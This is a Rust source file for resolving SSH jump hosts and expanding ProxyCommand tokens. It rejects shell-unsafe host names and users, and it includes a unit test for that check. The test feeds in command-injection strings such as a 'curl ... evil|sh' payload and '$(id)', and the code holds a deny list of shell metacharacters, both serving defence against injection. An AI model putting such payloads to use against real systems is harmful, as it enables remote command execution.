//! How a host is reached when not directly: its jump hosts, each resolved
//! as `ssh HOP` would resolve it, and its `ProxyCommand` with `%`-tokens
//! expanded. Both are settled here, at load time, so that connecting has
//! nothing left to look up.
//!
//! OpenSSH runs `ssh -J a,b target` as `ssh -W target` over `ssh -J a b`:
//! every hop gets its own `~/.ssh/config` block (HostName, User, Port,
//! IdentityFile, ...), with the user and port written in the chain
//! winning; the first hop's own ProxyJump/ProxyCommand applies, while the
//! later hops' are overridden by the chain (the `-J` on their command line).
//! The inventory's ssh arguments (`ansible_ssh_common_args`) do not reach
//! the hops, as `ssh -o` options do not.

use super::ssh_config::expand_percent;
use super::vars::Vars;
use super::{Host, RawHost};
use crate::ssh::jump::parse_chain;
use crate::untrusted::terminal_safe;

/// Jump hosts a host may sit behind, nested chains included: far beyond any
/// real site; a ProxyJump loop in ~/.ssh/config stops here.
const MAX_HOPS: usize = 8;

/// The hops of `chain`, each resolved by `resolve` (the inventory's host
/// resolution, called with the depth reached); `depth` is how deep the host
/// whose chain this is already sits.
pub(super) fn jump_hosts(
    chain: &str,
    depth: usize,
    resolve: impl Fn(RawHost, usize) -> Host,
) -> Result<Vec<Host>, String> {
    let jumps = parse_chain(chain).map_err(|why| format!("`ProxyJump {chain}`: {why}"))?;
    if depth + jumps.len() > MAX_HOPS {
        return Err(format!(
            "`ProxyJump {chain}`: more than {MAX_HOPS} jump hosts in a row (a ProxyJump loop in ~/.ssh/config?)"
        ));
    }
    let mut hops = Vec::with_capacity(jumps.len());
    for (index, jump) in jumps.into_iter().enumerate() {
        // `ssh -J a b` gives b the rest of the chain on its command line
        // (`-J none` here, as b is reached over a's channel): b's own
        // ProxyJump or ProxyCommand is never read.
        let proxy_jump = (index > 0).then(|| "none".to_owned());
        let raw = RawHost {
            name: jump.address,
            vars: Vars {
                user: jump.user,
                port: jump.port,
                proxy_jump,
                ..Vars::default()
            },
            groups: Vec::new(),
        };
        let hop = resolve(raw, depth + index + 1);
        if let Some(why) = &hop.refused {
            return Err(format!("jump host {}: {why}", hop.name));
        }
        hops.push(hop);
    }
    Ok(hops)
}

/// What `%`-tokens of a ProxyCommand stand for.
pub(super) struct Tokens<'a> {
    /// `%h`: the HostName, the address ssh would connect to.
    pub host_name: &'a str,
    /// `%p`.
    pub port: u16,
    /// `%r`: the remote user.
    pub user: &'a str,
    /// `%n`: the name given to ssh (`ansible_host` for an Ansible
    /// inventory that sets it, else the inventory name).
    pub name: &'a str,
}

/// `command` with `%h %p %r %n %%` expanded as OpenSSH does; any other
/// token refuses the host, naming it. So does a name or user that a shell
/// would read as more than a word (`;`, `$(...)`, quotes, spaces, ...):
/// the command runs under a shell, and OpenSSH refuses such names too
/// (CVE-2023-51385).
pub(super) fn expand_command(command: &str, tokens: &Tokens) -> Result<String, String> {
    let mut unsafe_value = None;
    let mut word = |what: &'static str, value: &str| {
        if !shell_word(value) {
            unsafe_value.get_or_insert((what, value.to_owned()));
        }
        value.to_owned()
    };
    let expanded = expand_percent(command, |token| {
        Some(match token {
            'h' => word("host name", tokens.host_name),
            'p' => tokens.port.to_string(),
            'r' => word("user", tokens.user),
            'n' => word("host name", tokens.name),
            _ => return None,
        })
    });
    let shown = terminal_safe(command);
    let expanded = expanded.map_err(|token| {
        let token = token.map_or_else(|| "%".to_owned(), |c| format!("%{c}"));
        format!(
            "`ProxyCommand {shown}` uses the token `{token}`, which swpush does not expand (it expands %h %p %r %n %%)"
        )
    })?;
    match unsafe_value {
        Some((what, value)) => Err(format!(
            "`ProxyCommand {shown}`: the {what} {:?} holds characters a shell would interpret; not putting it into the command (OpenSSH refuses it too)",
            terminal_safe(&value)
        )),
        None => Ok(expanded),
    }
}

/// OpenSSH's test for a name or user it may put into a shell command
/// (`valid_hostname`, `valid_ruser`): no leading `-`, no space or control
/// character, none of ``'`"$\;&<>|(){},``.
fn shell_word(value: &str) -> bool {
    !value.starts_with('-')
        && !value
            .chars()
            .any(|c| c.is_whitespace() || c.is_control() || "'`\"$\\;&<>|(){},".contains(c))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn proxy_command_tokens_expand_as_openssh_expands_them() {
        let tokens = Tokens {
            host_name: "10.0.0.5",
            port: 2222,
            user: "deploy",
            name: "web1",
        };
        assert_eq!(
            expand_command("ssh -W %h:%p -l %r bastion # %n 100%%", &tokens).as_deref(),
            Ok("ssh -W 10.0.0.5:2222 -l deploy bastion # web1 100%")
        );
        for (field, value) in [
            ("host_name", "x;curl${IFS}evil|sh;.internal"),
            ("host_name", "$(id)"),
            ("name", "a b"),
            ("user", "u`id`"),
            ("user", "-oProxyCommand=x"),
        ] {
            let mut hostile = Tokens { ..tokens };
            match field {
                "host_name" => hostile.host_name = value,
                "name" => hostile.name = value,
                _ => hostile.user = value,
            }
            let error = expand_command("ssh -W %h:%p -l %r gw # %n", &hostile).expect_err(value);
            assert!(
                error.contains("a shell would interpret"),
                "{value}: {error}"
            );
        }
        for bad in ["nc %C", "nc %h %", "nc %d"] {
            let error = expand_command(bad, &tokens).expect_err(bad);
            assert!(error.contains("does not expand"), "{bad}: {error}");
        }
    }
}
